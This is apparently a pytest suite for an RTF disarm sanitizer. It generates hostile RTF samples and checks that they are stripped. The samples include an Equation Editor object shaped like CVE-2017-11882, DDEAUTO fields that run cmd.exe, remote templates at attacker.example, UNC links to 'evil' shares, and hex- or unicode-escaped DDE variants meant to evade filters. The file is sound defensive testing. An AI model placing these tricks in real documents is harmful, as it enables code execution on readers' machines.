"""RTF disarm (CDR.md "RTF"): hostile documents generated here, judged by our verify
and by oletools' rtfobj and msodde."""

from __future__ import annotations

import binascii
import struct
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from oletools import msodde
from oletools.rtfobj import RtfObjParser

from sanitize import cfb
from sanitize.config import SanitizeConfig
from sanitize.formats import Context, rtf
from sanitize.report import Blocked, VerifyFailed
from tests.sanitize import ole_fixtures as F

CTX = Context(SanitizeConfig())


def clean(data: bytes) -> tuple[bytes, list[str]]:
    out = rtf.rebuild(data, "rtf", CTX)
    rtf.verify(out.data, "rtf", CTX)
    # Regenerated output is a fixed point: a second pass finds nothing and changes nothing.
    again = rtf.rebuild(out.data, "rtf", CTX)
    assert again.data == out.data and again.removed == ()
    return out.data, [r.code for r in out.removed]


def blocked(data: bytes) -> str:
    with pytest.raises(Blocked) as info:
        rtf.rebuild(data, "rtf", CTX)
    return info.value.reason


def rtf_objects(data: bytes) -> int:
    parser = RtfObjParser(data)
    parser.parse()
    return len(parser.objects)


def dde_links(data: bytes, tmp_path: Path) -> str:
    path = tmp_path / f"judged{len(list(tmp_path.iterdir()))}.rtf"
    path.write_bytes(data)
    return msodde.process_file(str(path))


def ole1_equation_object() -> bytes:
    """OLE 1.0 embedded-object header around a compound file holding an Equation
    Editor object: the shape of CVE-2017-11882 samples."""
    native = cfb.write_cfb(cfb.storage(cfb.ROOT_NAME, F.equation_object().children,
                                       clsid=cfb.clsid_bytes(F.EQUATION_CLSID)))
    cls = b"Equation.3\0"
    return (struct.pack("<II", 0x0501, 2) + struct.pack("<I", len(cls)) + cls
            + struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native)


PICT = rb"{\pict\wmetafile8\picw100\pich100 0100090000035000000000}"
EQUATION_RTF = (rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Times;}}Before "
                rb"{\object\objemb\objupdate{\*\objclass Equation.3}\objw380\objh260{\*\objdata "
                + binascii.hexlify(ole1_equation_object()) + rb"}{\result " + PICT + rb"}}"
                rb" After\par}")


def test_object_with_objdata_removed_result_picture_kept_as_a_placeholder() -> None:
    assert rtf_objects(EQUATION_RTF) == 1  # rtfobj sees the embedded Equation object
    out, codes = clean(EQUATION_RTF)
    assert codes == ["rtf.object", "rtf.image_removed"]  # the preview is a WMF
    assert rtf_objects(out) == 0
    assert b"Equation" not in out and b"objupdate" not in out
    assert b"Before" in out and b"After" in out
    assert b"\\pict\\picw4\\pich4\\picwgoal60\\pichgoal60\\pngblip" in out
    assert b"wmetafile" not in out and b"0100090000035000000000" not in out


def test_objdata_anywhere_cuts_its_destination() -> None:
    data = rb"{\rtf1 keep {\b bold \objdata 0105000002000000} tail {\*\panose {\*\objdata 01}} end}"
    out, codes = clean(data)
    assert codes == ["rtf.object", "rtf.object"]
    assert rtf_objects(out) == 0
    assert b"bold" in out and b"tail" in out and b"end" in out and b"0105" not in out


def test_remote_template_removed() -> None:
    data = rb"{\rtf1{\*\template http://attacker.example/t.dotm}Hello}"
    out, codes = clean(data)
    assert codes == ["rtf.template"] and b"attacker" not in out and b"Hello" in out


def test_datastore_and_mailmerge_removed() -> None:
    data = (rb"{\rtf1 text{\*\datastore 01050000020000001b000000}"
            rb"{\*\mailmerge\mmlinktoquery{\*\mmdatasource \\\\evil\\share\\db.mdb}}}")
    out, codes = clean(data)
    assert codes == ["rtf.datastore", "rtf.mailmerge"]
    assert b"datastore" not in out and b"evil" not in out and b"text" in out


def test_ddeauto_field_keeps_result_text(tmp_path: Path) -> None:
    data = (rb"{\rtf1 Dear {\field{\*\fldinst {\rtlch DDEAUTO c:\\windows\\system32\\cmd.exe "
            rb"\"/k calc.exe\"}}{\fldrslt {\b Total: 42}}} regards}")
    assert "DDEAUTO" in dde_links(data, tmp_path)
    out, codes = clean(data)
    assert codes == ["rtf.field_dde"]
    assert dde_links(out, tmp_path) == ""
    assert b"Total: 42" in out and b"cmd.exe" not in out and b"\\field" not in out


@pytest.mark.parametrize("instruction, code", [
    (rb"INCLUDEPICTURE \"http://tracker.example/p.png\" \\d", "rtf.field_include"),
    (rb"INCLUDETEXT \"\\\\\\\\evil\\\\share\\\\x.doc\"", "rtf.field_include"),
    (rb"LINK Excel.Sheet.8 \"c:\\\\x.xls\" \"Sheet1!R1C1\"", "rtf.field_link"),
    (rb"IMPORT \\\\evil\\x.wmf", "rtf.field_import"),
    (rb"  dde cmd \"/c calc\"", "rtf.field_dde"),
    (rb"\'44\'44EAUTO cmd", "rtf.field_dde"),  # hex-escaped letters
    (rb"\uc1\u68?DEAUTO cmd", "rtf.field_dde"),  # \u with a fallback character to skip
    (rb"{\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd", "rtf.field_nested"),
])
def test_link_fields_replaced_by_their_result(instruction: bytes, code: str) -> None:
    data = rb"{\rtf1 {\field{\*\fldinst " + instruction + rb"}{\fldrslt shown}}}"
    out, codes = clean(data)
    assert codes == [code]
    assert b"fldinst" not in out and b"shown" in out


def test_harmless_fields_kept() -> None:
    data = rb"{\rtf1 {\field{\*\fldinst HYPERLINK \"https://www.city.example.lg.jp/\"}{\fldrslt site}} {\field{\*\fldinst PAGE}{\fldrslt 1}}}"
    out, codes = clean(data)
    assert codes == [] and out == data


def test_stray_link_instruction_outside_field_dropped() -> None:
    out, codes = clean(rb"{\rtf1 a{\*\fldinst DDEAUTO cmd}b}")
    assert codes == ["rtf.field_dde"] and b"cmd" not in out and b"a" in out


def test_field_loose_in_the_document_keeps_the_document(tmp_path: Path) -> None:
    # \field directly in the document group (found by the fuzz test): the instruction
    # goes, the document with its header and text stays.
    out, codes = clean(rb"{\rtf1 Minutes {\*\fldinst DDEAUTO c:\\windows\\cmd.exe}\field{\fldrslt kept}}")
    assert out.startswith(rb"{\rtf1 Minutes") and b"kept" in out and b"cmd" not in out
    assert codes == ["rtf.field_dde"] and dde_links(out, tmp_path) == ""


def test_trailing_bytes_after_last_brace_dropped() -> None:
    data = rb"{\rtf1 body}" + b"\r\n" + b"MZ\x90\x00" + b"\x00" * 100 + rb"{\object\objdata 01}"
    out, codes = clean(data)
    assert codes == ["rtf.trailing_data"]
    assert out == rb"{\rtf1 body}"
    # Only whitespace after the brace is normal and not reported.
    assert clean(rb"{\rtf1 body}" + b"\r\n\0")[1] == []


@pytest.mark.parametrize("data", [rb"{\rtf1 {\b open", rb"{\rtf1 }}" [:-2] + b"{", rb"{\rtf1 \bin99 x}"])
def test_unbalanced_or_truncated_blocked(data: bytes) -> None:
    assert blocked(data) == "corrupt"


def test_not_rtf_blocked() -> None:
    assert blocked(b"hello") == "corrupt"


def test_nesting_limit() -> None:
    deep = rb"{\rtf1 " + b"{" * (rtf.MAX_DEPTH + 5) + b"x" + b"}" * (rtf.MAX_DEPTH + 5) + b"}"
    assert blocked(deep) == "limit_exceeded"


def test_bin_data_with_braces_is_data_not_structure() -> None:
    payload = b"}{\\object}{" + bytes(range(256))
    data = (rb"{\rtf1 {\pict\pngblip\bin" + str(len(payload)).encode() + b" " + payload
            + rb"}Hello{\b \bin4 }}}}world}}")
    out, codes = clean(data)
    # Outside a picture raw data is dropped; inside, it is the picture's data (here no
    # picture at all, so a placeholder stands in for it).
    assert codes == ["rtf.bin_data", "rtf.image_removed"]
    assert binascii.hexlify(payload) not in out.replace(b"\r\n", b"")
    assert b"Hello" in out and b"world" in out and b"\\bin" not in out


def test_loose_header_normalised() -> None:
    out, _ = clean(rb"{\rtvxyz text}")
    assert out == rb"{\rtf1 text}"


def test_removal_never_glues_a_control_word_to_text() -> None:
    out, _ = clean(rb"{\rtf1\b{\object\objdata 01}text\fs24{\*\template x}5}")
    assert out == rb"{\rtf1\b text\fs24 5}"


def test_verify_rejects_what_rebuild_removes() -> None:
    for data in [EQUATION_RTF, rb"{\rtf1{\*\template x}}", rb"{\rtf1{\*\datastore 01}}",
                 rb"{\rtf1{\*\mailmerge x}}", rb"{\rtf1{\field{\*\fldinst DDEAUTO x}}}",
                 rb"{\rtf1 x}junk", rb"{\rtf1 {x}", rb"{\rtf1 \bin1 x}", rb"{\rtxx a}"]:
        with pytest.raises(VerifyFailed):
            rtf.verify(data, "rtf", CTX)


# -- fuzzing ------------------------------------------------------------------------

_PIECES = st.sampled_from([
    b"{", b"}", b"{\\*", b"\\object", b"\\objdata ", b"\\bin3 ", b"\\bin", b"\\'4", b"\\'41",
    b"\\u-3", b"\\uc2", b"?", b"\\field", b"{\\*\\fldinst DDE ", b"{\\fldrslt ", b"\\result",
    b"\\pict", b"\\\\", b"\\{", b"\\}", b"\\", b" ", b"text", b"\r\n", b"\x00", b"\xff",
    b"\\datastore", b"\\template", b"-12", b"7", b"\\b0", b"\\par", b"9" * 30,
])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=st.lists(_PIECES, max_size=60), noise=st.binary(max_size=40),
       close=st.booleans())
def test_tokenizer_fuzz_only_blocks_and_output_verifies(body: list[bytes], noise: bytes,
                                                        close: bool) -> None:
    data = rb"{\rtf1 " + b"".join(body) + noise + (b"}" * 70 if close else b"")
    try:
        clean(data)
    except Blocked as exc:
        assert not isinstance(exc, VerifyFailed), exc


@settings(max_examples=200, deadline=None)
@given(data=st.binary(max_size=300))
def test_random_bytes_only_block(data: bytes) -> None:
    try:
        clean(b"{\\rt" + data)
    except Blocked as exc:
        assert not isinstance(exc, VerifyFailed), exc
